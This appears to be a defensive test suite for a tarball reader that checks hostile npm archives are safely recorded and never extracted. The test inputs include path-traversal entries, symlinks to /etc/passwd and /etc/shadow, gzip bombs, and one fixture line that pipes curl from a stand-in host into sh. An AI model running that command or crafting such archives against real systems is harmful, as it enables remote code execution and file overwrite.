import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import * as tar from 'tar';
import { checkArchivePath } from '../../../src/engine/tarball/collector';
import { readTarball, type TarballContents } from '../../../src/engine/tarball/readTarball';
import { END, entryBytes, gzipBomb, rawTar, rawTgz } from './rawTar';

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, ...new Array(56).fill(0), 0xde, 0xad]);
const MB = 1024 * 1024;

let tmp: string;
before(() => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'takedown-tarball-'));
});
after(() => rmSync(tmp, { recursive: true, force: true }));

/** Packs `files` under `top/` with the real `tar` create API (as npm pack does) and returns the .tgz bytes. */
async function pack(files: Record<string, string | Uint8Array>, top = 'package'): Promise<Buffer> {
  const src = mkdtempSync(path.join(tmp, 'src-'));
  for (const [rel, body] of Object.entries(files)) {
    const abs = path.join(src, top, rel);
    mkdirSync(path.dirname(abs), { recursive: true });
    writeFileSync(abs, body);
  }
  const out = path.join(src, 'out.tgz');
  await tar.c({ gzip: true, file: out, cwd: src, portable: true }, [top]);
  return readFileSync(out);
}

const summary = (r: TarballContents) => r.files.map((f) => f.path).sort();

describe('readTarball: ordinary packages', () => {
  test('reads a package made by the tar create API: paths, sizes, text, manifest, binary', async () => {
    const tgz = await pack({
      'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'index.js' }),
      'index.js': 'module.exports = () => 42;\n',
      'lib/deep/util.js': '// ünïcödé\nexports.x = 1;\n',
      'bin/helper': ELF,
      'README.md': '# demo\n',
    });
    const r = await readTarball(tgz);
    assert.deepEqual(summary(r), ['README.md', 'bin/helper', 'index.js', 'lib/deep/util.js', 'package.json']);
    assert.deepEqual(r.manifest, { name: 'demo', version: '1.0.0', main: 'index.js' });
    assert.equal(r.manifestError, undefined);
    assert.deepEqual([r.capsHit, r.suspiciousPaths, r.specialEntries, r.duplicatePaths, r.warnings], [[], [], [], [], []]);
    assert.deepEqual(r.topFolders, ['package']);
    assert.equal(r.fileCount, 5);
    const index = r.files.find((f) => f.path === 'index.js')!;
    assert.deepEqual([index.size, index.text, index.binary, index.truncated], [27, 'module.exports = () => 42;\n', false, false]);
    assert.equal(Buffer.from(index.head).toString(), 'module.exports = () => 42;\n');
    assert.equal(r.files.find((f) => f.path === 'lib/deep/util.js')!.text, '// ünïcödé\nexports.x = 1;\n');
    const elf = r.files.find((f) => f.path === 'bin/helper')!;
    assert.deepEqual([elf.binary, elf.text, elf.size, elf.truncated], [true, undefined, 66, false]);
    assert.equal(elf.head.length, 64);
    assert.deepEqual([...elf.head.subarray(0, 4)], [0x7f, 0x45, 0x4c, 0x46]);
    assert.equal(r.totalUnpackedBytes, r.files.reduce((n, f) => n + f.size, 0));
  });

  test('a top folder other than package/ is stripped like npm does, and reported', async () => {
    const r = await readTarball(await pack({ 'package.json': '{"name":"odd"}', 'x.js': '1' }, 'node-odd-2.0'));
    assert.deepEqual(summary(r), ['package.json', 'x.js']);
    assert.deepEqual(r.topFolders, ['node-odd-2.0']);
    assert.equal(r.manifest?.name, 'odd');
  });

  test('invalid or non-object package.json gives manifestError, not a throw', async () => {
    const bad = await readTarball(await pack({ 'package.json': '{"name": "x",' }));
    assert.equal(bad.manifest, undefined);
    assert.match(bad.manifestError!, /^package\.json is not valid JSON/);
    const arr = await readTarball(await pack({ 'package.json': '[1,2]' }));
    assert.equal(arr.manifestError, 'package.json is not a JSON object');
    const none = await readTarball(await pack({ 'index.js': '' }));
    assert.deepEqual([none.manifest, none.manifestError], [undefined, undefined]);
  });

  test('an uncompressed tar is read too; garbage yields warnings and no files, never a throw', async () => {
    const plain = await readTarball(rawTar([{ path: 'package/a.js', body: 'a' }]));
    assert.deepEqual(summary(plain), ['a.js']);
    const junk = await readTarball(Buffer.from('this is not a tarball at all, just some text that is long enough'.repeat(20)));
    assert.deepEqual(junk.files, []);
    assert.ok(junk.warnings.length > 0);
    const badGzip = await readTarball(Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(100, 7)]));
    assert.deepEqual(badGzip.files, []);
    assert.ok(badGzip.warnings.some((w) => w.startsWith('gzip:')));
    const nested = await readTarball(gzipSync(rawTgz([{ path: 'package/a.js', body: 'a' }])));
    assert.deepEqual(nested.files, []);
    assert.ok(nested.warnings.some((w) => /nested compression/.test(w)));
  });

  test('a damaged (cut) archive returns what was read; the cut file is truncated', async () => {
    const whole = rawTar([
      { path: 'package/package.json', body: '{"name":"cut"}' },
      { path: 'package/big.js', body: 'x'.repeat(5000) },
    ]);
    const r = await readTarball(gzipSync(whole.subarray(0, 512 * 2 + 512 + 2048)));
    assert.equal(r.manifest?.name, 'cut');
    const big = r.files.find((f) => f.path === 'big.js')!;
    assert.deepEqual([big.size, big.truncated, big.text, big.prefix?.length], [5000, true, undefined, 2048]);
    assert.ok(r.warnings.some((w) => /TAR_BAD_ARCHIVE/.test(w)));
  });
});

describe('readTarball: hostile archives', () => {
  test('traversal, absolute, backslash, control-character and top-level paths are rejected and recorded; nothing is written', async () => {
    const workDir = mkdtempSync(path.join(tmp, 'cwd-'));
    const absTarget = path.join(tmp, `abs-evil-${process.pid}`);
    const tgz = rawTgz([
      { path: 'package/package.json', body: '{"name":"evil"}' },
      { path: '../../etc/evil', body: 'pwned' },
      { path: 'package/../../etc/evil2', body: 'pwned' },
      { path: absTarget, body: 'pwned' },
      { path: 'package\\..\\..\\evil.js', body: 'pwned' },
      { path: 'package/...\\x.js', body: 'pwned' },
      { path: 'C:\\Windows\\evil.dll', body: 'pwned' },
      // tar itself cuts names at NUL (as extraction would): this one arrives as `package/a`.
      { path: 'package/a\u0000b.js', body: 'cut at NUL', pax: true },
      { path: 'package/line\nbreak.js', body: 'pwned' },
      { path: 'toplevel.js', body: 'not installed by npm' },
      { path: 'package/lib\\win.js', body: 'ok' },
      { path: 'package/./lib//fine.js', body: 'ok' },
    ]);
    const cwd = process.cwd();
    process.chdir(workDir);
    let r: TarballContents;
    try {
      r = await readTarball(tgz);
    } finally {
      process.chdir(cwd);
    }
    assert.deepEqual(summary(r), ['a', 'lib/fine.js', 'lib/win.js', 'package.json']);
    assert.deepEqual(
      r.suspiciousPaths.map((s) => [s.path, s.reason, s.entryType, s.size]),
      [
        ['../../etc/evil', 'parent-segment', 'file', 5],
        ['package/../../etc/evil2', 'parent-segment', 'file', 5],
        [absTarget, 'absolute', 'file', 5],
        ['package\\..\\..\\evil.js', 'backslash-traversal', 'file', 5],
        ['package/...\\x.js', 'backslash-traversal', 'file', 5],
        ['C:\\Windows\\evil.dll', 'absolute', 'file', 5],
        ['package/line\nbreak.js', 'control-character', 'file', 5],
        ['toplevel.js', 'outside-package-folder', 'file', 20],
      ],
    );
    assert.equal(r.fileCount, 12);
    assert.deepEqual(readdirSync(workDir), [], 'nothing was written to the working directory');
    assert.equal(existsSync(absTarget), false);
    assert.equal(existsSync(path.join(tmp, '..', 'etc')), false);
  });

  test('symlinks, hardlinks, devices and FIFOs are recorded with their targets as text, never followed', async () => {
    const r = await readTarball(
      rawTgz([
        { path: 'package/index.js', body: 'require("./passwd")' },
        { path: 'package/passwd', type: '2', linkpath: '/etc/passwd' },
        { path: 'package/up', type: '2', linkpath: '../../..' },
        { path: 'package/hard', type: '1', linkpath: 'package/index.js' },
        { path: 'package/tty', type: '3' },
        { path: 'package/disk', type: '4' },
        { path: 'package/pipe', type: '6' },
        { path: 'package/sparse', type: 'S', size: 512 },
        { path: 'package/../escape-link', type: '2', linkpath: '/etc/shadow' },
      ]),
    );
    assert.deepEqual(summary(r), ['index.js']);
    assert.deepEqual(
      r.specialEntries.map((s) => [s.path, s.type, s.linkTarget, s.rawType]),
      [
        ['passwd', 'symlink', '/etc/passwd', undefined],
        ['up', 'symlink', '../../..', undefined],
        ['hard', 'hardlink', 'package/index.js', undefined],
        ['tty', 'character-device', undefined, undefined],
        ['disk', 'block-device', undefined, undefined],
        ['pipe', 'fifo', undefined, undefined],
        ['sparse', 'unsupported', undefined, 'SparseFile'],
      ],
    );
    assert.deepEqual(r.suspiciousPaths.map((s) => [s.path, s.reason, s.entryType, s.linkTarget]), [['package/../escape-link', 'parent-segment', 'symlink', '/etc/shadow']]);
  });

  test('duplicate paths: the last copy wins (as extraction), the duplicate is recorded', async () => {
    const r = await readTarball(
      rawTgz([
        { path: 'package/index.js', body: 'console.log("harmless")' },
        { path: 'package/other.js', body: '' },
        { path: 'package/index.js', body: 'require("child_process").exec("curl evil|sh")' },
        { path: './package//index.js', body: 'third' },
      ]),
    );
    assert.deepEqual(
      r.files.map((f) => [f.path, f.text]),
      [
        ['other.js', ''],
        ['index.js', 'third'],
      ],
    );
    assert.deepEqual(r.duplicatePaths, ['index.js']);
    assert.equal(r.fileCount, 4);
  });

  test('paths deeper than maxPathDepth are skipped and recorded; at the limit they are read', async () => {
    const at = `package/${'d/'.repeat(31)}ok.js`; // 32 segments under package/
    const deep = `package/${'d/'.repeat(40)}deep.js`;
    const r = await readTarball(rawTgz([{ path: at, body: 'ok' }, { path: deep, body: 'hidden' }, { path: `package/${'e/'.repeat(60)}x.js`, body: 'x', pax: true }]));
    assert.deepEqual(summary(r), [`${'d/'.repeat(31)}ok.js`]);
    assert.deepEqual(r.capsHit.map((c) => [c.code, c.limit, c.max, c.count, c.detail]), [['E_TOO_LARGE', 'maxPathDepth', 32, 2, `${'d/'.repeat(40)}deep.js`]]);
  });

  test('a file over maxFileBytes keeps its size and a 64 KB prefix, and later files are still read', async () => {
    const big = Buffer.alloc(11 * MB, 'a');
    big.write('#!/bin/sh\n', 0);
    const r = await readTarball(await pack({ 'a-big.sh': big, 'b-small.js': 'small' }));
    const f = r.files.find((x) => x.path === 'a-big.sh')!;
    assert.deepEqual([f.size, f.truncated, f.text, f.binary, f.prefix?.length], [11 * MB, true, undefined, false, 64 * 1024]);
    assert.equal(Buffer.from(f.head).subarray(0, 10).toString(), '#!/bin/sh\n');
    assert.equal(r.files.find((x) => x.path === 'b-small.js')!.text, 'small');
    assert.deepEqual(r.capsHit.map((c) => [c.limit, c.detail]), [['maxFileBytes', `a-big.sh (${11 * MB} bytes)`]]);
  });

  test('25,000 tiny files: reading stops at maxFiles, the first 20,000 are returned', async () => {
    const entries = Array.from({ length: 25_000 }, (_, i) => entryBytes({ path: `package/f/${i.toString(36)}.js`, body: `module.exports=${i};` }));
    const r = await readTarball(gzipSync(Buffer.concat([...entries, END])));
    assert.equal(r.files.length, 20_000);
    assert.equal(r.fileCount, 20_000);
    assert.equal(r.files[19_999]!.path, `f/${(19_999).toString(36)}.js`);
    assert.deepEqual(r.capsHit.map((c) => [c.limit, c.max]), [['maxFiles', 20_000]]);
    const small = await readTarball(gzipSync(Buffer.concat([...entries.slice(0, 50), END])), { maxFiles: 10 });
    assert.deepEqual([small.files.length, small.capsHit[0]?.limit], [10, 'maxFiles']);
  });

  test('over maxCompressedBytes: only the first part is read, what it holds is returned', async () => {
    const files = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`f${String(i).padStart(3, '0')}.js`, `// ${i} ${Math.random()}\n`.repeat(200)]));
    const tgz = await pack({ 'package.json': '{"name":"big"}', ...files });
    const r = await readTarball(tgz, { maxCompressedBytes: Math.floor(tgz.length / 2) });
    assert.deepEqual(r.capsHit.map((c) => [c.limit, c.detail]), [['maxCompressedBytes', `${tgz.length} bytes compressed`]]);
    assert.ok(r.files.length > 10 && r.files.length < 201, `${r.files.length} files read`);
    assert.ok(r.files.slice(0, -1).every((f) => !f.truncated && f.text !== undefined));
    assert.equal(r.warnings.length, 0, 'the cut is a cap, not archive damage');
  });

  let bomb: Buffer;
  before(async () => {
    bomb = await gzipBomb(300 * MB);
  });

  test('gzip bomb (300 MB of zeros, ~300 KB compressed): stopped by the ratio cap early, memory bounded', async () => {
    assert.ok(bomb.length < 1 * MB);
    const { result: r, growth } = await measure(() => readTarball(bomb));
    assert.deepEqual(r.capsHit.map((c) => c.limit), ['maxFileBytes', 'maxCompressionRatio']);
    assert.equal(r.manifest?.name, 'bomb');
    const f = r.files.find((x) => x.path === 'bomb.bin')!;
    assert.deepEqual([f.size, f.truncated, f.binary, f.prefix?.length], [300 * MB, true, true, 64 * 1024]);
    assert.equal(r.files.find((x) => x.path === 'after.js'), undefined, 'nothing after the cap is read');
    assert.ok(r.totalUnpackedBytes < 32 * MB, `stopped after ${r.totalUnpackedBytes} bytes`);
    assert.ok(growth < 64 * MB, `rss grew ${(growth / MB).toFixed(1)} MB`);
  });

  test('gzip bomb with the ratio cap off: the unpacked cap stops it at 200 MB, memory still bounded', async () => {
    const { result: r, growth } = await measure(() => readTarball(bomb, { maxCompressionRatio: Infinity }));
    assert.deepEqual(r.capsHit.map((c) => [c.limit, c.max]), [
      ['maxFileBytes', 10 * MB],
      ['maxUnpackedBytes', 200 * MB],
    ]);
    assert.ok(r.totalUnpackedBytes <= 200 * MB && r.totalUnpackedBytes > 199 * MB);
    assert.equal(r.files.find((x) => x.path === 'bomb.bin')!.prefix!.length, 64 * 1024);
    assert.ok(growth < 100 * MB, `rss grew ${(growth / MB).toFixed(1)} MB for 200 MB streamed`);
  });
});

describe('checkArchivePath', () => {
  test('normalises like npm and rejects escapes', () => {
    assert.deepEqual(checkArchivePath('package/a/./b//c.js', true), { ok: true, path: 'a/b/c.js', top: 'package', depth: 3 });
    assert.deepEqual(checkArchivePath('package\\a\\b.js', true), { ok: true, path: 'a/b.js', top: 'package', depth: 2 });
    assert.deepEqual(checkArchivePath('a/b.js', false), { ok: true, path: 'a/b.js', top: '', depth: 2 });
    const reason = (p: string) => {
      const c = checkArchivePath(p, true);
      return c.ok ? 'ok' : c.reason;
    };
    assert.equal(reason('/etc/passwd'), 'absolute');
    assert.equal(reason('\\\\server\\share\\x'), 'absolute');
    assert.equal(reason('c:/x'), 'absolute');
    assert.equal(reason('package/C:evil.js'), 'absolute');
    assert.equal(reason('package/a/../../b'), 'parent-segment');
    assert.equal(reason('package/.. /b'), 'parent-segment');
    assert.equal(reason('package/..\\b'), 'backslash-traversal');
    assert.equal(reason('package/x\u0000'), 'nul-byte');
    assert.equal(reason('package/x\u001b[31m'), 'control-character');
    assert.equal(reason(`package/${'a'.repeat(5000)}`), 'too-long');
    assert.equal(reason('package/'), 'outside-package-folder');
    assert.equal(reason('./'), 'empty');
    assert.equal(reason('package/.hidden/..config'), 'ok');
  });
});

test('checkArchivePath: an accepted path never escapes the package root (property)', () => {
  const piece = fc.constantFrom('a', 'b.js', '.', '..', '...', '/', '//', '\\', ':', 'C:', '\u0000', ' ', '.. ', 'package', '~');
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), fc.boolean(), (pieces, strip) => {
      const c = checkArchivePath(pieces.join(''), strip);
      if (!c.ok) return;
      const segments = c.path.split('/');
      assert.ok(!c.path.startsWith('/') && !c.path.includes('\\') && !c.path.includes('\u0000') && !/^[a-zA-Z]:/.test(c.path), c.path);
      assert.ok(segments.every((s) => s !== '' && !/^[.\s]+$/.test(s)), c.path);
      assert.equal(segments.length, c.depth);
    }),
    { numRuns: 5000 },
  );
});

async function measure<T>(run: () => Promise<T>): Promise<{ result: T; growth: number }> {
  (globalThis as { gc?: () => void }).gc?.();
  const base = process.memoryUsage().rss;
  let peak = base;
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 2);
  try {
    const result = await run();
    peak = Math.max(peak, process.memoryUsage().rss);
    return { result, growth: peak - base };
  } finally {
    clearInterval(timer);
  }
}
